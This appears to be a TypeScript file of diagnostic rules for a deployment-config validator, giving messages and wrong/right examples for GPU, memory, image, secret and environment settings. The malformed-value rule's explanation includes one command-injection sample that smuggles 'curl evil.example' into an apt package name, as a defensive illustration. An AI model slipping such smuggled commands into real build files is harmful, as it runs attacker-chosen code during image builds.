import { rule } from "../diagnostic.ts";

/** What a message is about: `compute.gpu of Embedder`. */
interface About {
  readonly subject: string;
}

export const unknownConfigKey = rule<About & { key: string; known: readonly string[]; similar?: string | undefined }>({
  code: "CHN3101",
  slug: "unknown-config-key",
  severity: "error",
  title: "A key that does not exist",
  message: ({ subject, key }) => `There is no key ${key} in ${subject.replace(/^The /, "the ")}.`,
  help: ({ similar, known }) =>
    similar === undefined ? `The keys are ${known.join(", ")}.` : `Did you mean ${similar}?`,
  explanation: `Unknown keys are errors, because a misspelt one would silently do nothing.

\`\`\`ts
compute: { cpuCuont: 2 } // wrong
compute: { cpuCount: 2 } // right
\`\`\``,
});

export const wrongConfigType = rule<About & { expected: string; found: string }>({
  code: "CHN3102",
  slug: "wrong-config-type",
  severity: "error",
  title: "A value of the wrong kind",
  message: ({ subject, expected, found }) => `${subject} must be ${expected}, not ${found}.`,
  help: ({ expected }) => `Write ${expected}.`,
  explanation: `Values are taken as they are, never converted.

\`\`\`ts
compute: { cpuCount: "2" } // wrong
compute: { cpuCount: 2 }   // right
\`\`\``,
});

export const unknownGpu = rule<About & { name: string; near: readonly string[]; all: readonly string[] }>({
  code: "CHN3103",
  slug: "unknown-gpu",
  severity: "error",
  title: "A GPU that is not on offer",
  message: ({ subject, name }) => `${subject} asks for the GPU ${name}, which is not on offer.`,
  help: ({ near, all }) => (near.length > 0 ? `Did you mean ${near.join(" or ")}?` : `There is ${all.join(", ")}.`),
  explanation: `GPUs are named as in the \`Accelerator\` type. How many is a key of its own, \`gpuCount\`.

\`\`\`ts
compute: { gpu: "H100:2" }                // wrong
compute: { gpu: "H100", gpuCount: 2 }     // right
\`\`\``,
});

export const memoryUnit = rule<About & { text: string; suggestion?: string | undefined }>({
  code: "CHN3104",
  slug: "memory-unit",
  severity: "error",
  title: "An amount of memory that cannot be read",
  message: ({ subject, text }) => `${subject} is "${text}", which is no amount of memory.`,
  help: ({ suggestion }) =>
    suggestion === undefined
      ? 'Write a number and a unit, for example "2Gi". Units are k, M, G, T, P, E and Ki, Mi, Gi, Ti, Pi, Ei.'
      : `Did you mean "${suggestion}"?`,
  explanation: `Memory is a number with a unit as Kubernetes writes it: \`Gi\` counts in 1024s, \`G\` in 1000s.

\`\`\`ts
compute: { memory: "2GB" } // wrong
compute: { memory: "2Gi" } // right
\`\`\``,
});

export const numberOutOfRange = rule<About & { found: string; range: string }>({
  code: "CHN3105",
  slug: "number-out-of-range",
  severity: "error",
  title: "A number that is too small, too large or not whole",
  message: ({ subject, found, range }) => `${subject} is ${found}; it must be ${range}.`,
  help: ({ range }) => `Write ${range}.`,
  explanation: `Counts are whole numbers from 1, durations are more than 0, limits are positive.

\`\`\`ts
compute: { gpu: "L4", gpuCount: 0 } // wrong: leave gpu out instead
\`\`\``,
});

export const plainBaseImage = rule<About & { image: string }>({
  code: "CHN3106",
  slug: "plain-base-image",
  severity: "error",
  title: "A base image as a plain string",
  message: ({ subject, image }) => `${subject} is the plain string "${image}". An image of your own is an object.`,
  help: ({ image }) => `Write { image: ${JSON.stringify(image)} }, or one of BasetenImage's.`,
  explanation: `An image of your own can carry more than its name: where its Node is, and how the registry is reached.

\`\`\`ts
dockerImage: { baseImage: "node:24-slim" }             // wrong
dockerImage: { baseImage: { image: "node:24-slim" } }  // right
dockerImage: { baseImage: chains.BasetenImage.NODE24 } // right
\`\`\``,
});

export const malformedValue = rule<About & { found: string; problem: string; example: string }>({
  code: "CHN3107",
  slug: "malformed-value",
  severity: "error",
  title: "A text that does not fit its field",
  message: ({ subject, found, problem }) => `${subject} is ${found}, which ${problem}.`,
  help: ({ example }) => `Write something like ${example}.`,
  explanation: `Package names, image names, paths and URLs have a grammar, and what does not follow it is refused instead of being quoted: these texts become parts of Dockerfiles and commands.

\`\`\`ts
aptRequirements: ["ffmpeg; curl evil.example"] // wrong
aptRequirements: ["ffmpeg", "curl"]            // right
\`\`\``,
});

export const unknownChoice = rule<About & { found: string; choices: readonly string[]; similar?: string | undefined }>({
  code: "CHN3108",
  slug: "unknown-choice",
  severity: "error",
  title: "A word that is not one of the choices",
  message: ({ subject, found }) => `${subject} is ${found}, which is not one of its choices.`,
  help: ({ choices, similar }) =>
    similar === undefined ? `The choices are ${choices.join(", ")}.` : `Did you mean ${similar}?`,
  explanation: `Some fields know only a few words.

\`\`\`ts
transport: { kind: "web-socket" } // wrong
transport: { kind: "websocket" }  // right
\`\`\``,
});

export const missingConfigKey = rule<About & { keys: readonly string[] }>({
  code: "CHN3109",
  slug: "missing-config-key",
  severity: "error",
  title: "A required key is missing",
  message: ({ subject, keys }) => `${subject} lacks ${keys.join(" and ")}.`,
  help: ({ keys }) => `Add ${keys.join(" and ")}.`,
  explanation: `Most keys have a default. These have none, because nothing sensible can be guessed.

\`\`\`ts
externalData: [{ url: "https://example.com/weights.bin" }]                                    // wrong
externalData: [{ url: "https://example.com/weights.bin", localDataPath: "weights.bin" }]      // right
\`\`\``,
});

export const conflictingKeys = rule<About & { keys: readonly [string, string]; why: string }>({
  code: "CHN3110",
  slug: "conflicting-keys",
  severity: "error",
  title: "Two keys that exclude each other",
  message: ({ subject, keys, why }) => `${subject} sets both ${keys[0]} and ${keys[1]}; ${why}.`,
  help: ({ keys }) => `Keep ${keys[0]} or ${keys[1]}, not both.`,
  explanation: `Some settings are two ways to the same thing, and only one of them can hold.

\`\`\`ts
assets: { cached: [repo], weights: [source] } // wrong
assets: { weights: [source] }                 // right
\`\`\``,
});

export const keyNeedsOther = rule<About & { key: string; because: string }>({
  code: "CHN3111",
  slug: "key-needs-other",
  severity: "error",
  title: "A key that another one calls for",
  message: ({ subject, key, because }) => `${subject} needs ${key} ${because}.`,
  help: ({ key }) => `Add ${key}.`,
  explanation: `Some settings only make sense together.

\`\`\`ts
{ repoId: "org/model", useVolume: true }                                             // wrong
{ repoId: "org/model", revision: "main", useVolume: true, volumeFolder: "model" }    // right
\`\`\``,
});

export const keyNotAllowed = rule<About & { key: string; because: string }>({
  code: "CHN3112",
  slug: "key-not-allowed",
  severity: "error",
  title: "A key that another one rules out",
  message: ({ subject, key, because }) => `${subject} must not have ${key} ${because}.`,
  help: ({ key }) => `Remove ${key}.`,
  explanation: `Each way to authenticate has keys of its own; those of another way would be ignored.

\`\`\`ts
dockerAuth: { authMethod: "AWS_OIDC", secretName: "registry" } // wrong
\`\`\``,
});

export const duplicateEntry = rule<About & { entry: string; what: string }>({
  code: "CHN3113",
  slug: "duplicate-entry",
  severity: "error",
  title: "The same entry twice",
  message: ({ subject, entry, what }) => `${subject} has the ${what} ${entry} twice.`,
  help: () => "Remove one of them.",
  explanation: `Two entries for one name or place contradict each other, or one of them does nothing.

\`\`\`ts
secretKeys: ["hf_access_token", "hf_access_token"] // wrong
\`\`\``,
});

export const reservedVariable = rule<About & { name: string }>({
  code: "CHN3114",
  slug: "reserved-variable",
  severity: "error",
  title: "An environment variable that belongs to the server",
  message: ({ subject, name }) => `${subject} sets ${name}, which the container sets itself.`,
  help: ({ name }) => `Use another name than ${name}.`,
  explanation: `\`PORT\` and \`HOSTNAME\` are set by the platform, names that begin with \`CHAINS_\`, \`INFERENCE_SERVER_\` or \`TRUSS_SECRET_\` by the server and for secrets.

\`\`\`ts
envVariables: { PORT: "3000" }      // wrong
envVariables: { APP_PORT: "3000" }  // right
\`\`\``,
});

export const notData = rule<About & { found: string }>({
  code: "CHN3115",
  slug: "not-data",
  severity: "error",
  title: "Something that is not plain data",
  message: ({ subject, found }) => `${subject} is ${found}, and only plain data can be carried to the chainlet.`,
  help: () => "Use strings, finite numbers, booleans, null, arrays and objects of these.",
  explanation: `\`userConfig\` and \`metadata\` travel as JSON. Functions, classes, undefined in arrays, bigint and NaN have no place in it.

\`\`\`ts
static userConfig = { limit: 10n }; // wrong
static userConfig = { limit: 10 };  // right
\`\`\``,
});

export const ignoredSetting = rule<About & { because: string; advice: string }>({
  code: "CHN3116",
  slug: "ignored-setting",
  severity: "warning",
  title: "A setting without effect",
  message: ({ subject, because }) => `${subject} has no effect: ${because}.`,
  help: ({ advice }) => advice,
  explanation: `The setting is accepted and does nothing, which is rarely what was meant.

\`\`\`ts
compute: { gpuCount: 2 }              // no GPU is asked for
compute: { gpu: "L4", gpuCount: 2 }   // right
\`\`\``,
});

export const missingStatic = rule<{ name: string; member: string; sample: string }>({
  code: "CHN3117",
  slug: "missing-static",
  severity: "error",
  title: "A static member is missing",
  message: ({ name, member }) => `${name} lacks the static member ${member}, which says what it stands for.`,
  help: ({ sample }) => `Add ${sample}`,
  explanation: `A \`TrussChainlet\` stands for a Truss directory, a \`ContainerChainlet\` for an image. Each says which in a static member.

\`\`\`ts
class Embedder extends chains.TrussChainlet {
  static trussDir = chains.makeAbsPathHere("./embedder");
}
\`\`\``,
});

export const secretInVariable = rule<About & { name: string }>({
  code: "CHN3118",
  slug: "secret-in-variable",
  severity: "warning",
  title: "An environment variable that looks like a secret",
  message: ({ subject, name }) =>
    `${subject} sets ${name} to a value in the source. Environment variables can be read in the image and in config files.`,
  help: () => "Declare its name in assets.secretKeys and read it from context.secrets.",
  explanation: `Secrets never belong in the source, in an image or in its environment. \`assets.secretKeys\` names them, and their values come from the place where the chainlet runs.

\`\`\`ts
options: { envVariables: { OPENAI_API_KEY: "sk-…" } } // wrong
assets: { secretKeys: ["openai_api_key"] }             // right
\`\`\``,
});
